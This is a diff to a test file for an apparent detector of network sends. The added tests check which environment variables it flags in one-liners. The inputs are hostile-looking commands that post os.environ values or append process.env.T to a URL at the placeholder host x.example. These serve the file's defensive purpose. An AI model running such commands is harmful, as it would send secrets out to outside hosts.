@@ -72,3 +72,16 @@ describe("network sends", () => {
     expect(sends(`node -e 'console.log(process.env)'`)).toEqual([]);
   });
 });
+
+describe("interpreter code reading variables by name", () => {
+  it("reads in request data count, reads in headers and auth arguments do not", () => {
+    expect(
+      sends(
+        `python3 -c 'import os,requests; requests.post("https://x.example", data={"k": os.environ["A"]}, headers={"Authorization": os.environ["B"]}, auth=("u", os.getenv("C")))'`,
+      ),
+    ).toEqual([{ hosts: ["x.example"], env: ["A"], environment: false, stdin: false }]);
+    expect(
+      sends(`node -e 'fetch("https://x.example/?t=" + process.env.T, {headers: {"X-Key": process.env.K}})'`)[0]?.env,
+    ).toEqual(["T"]);
+  });
+});
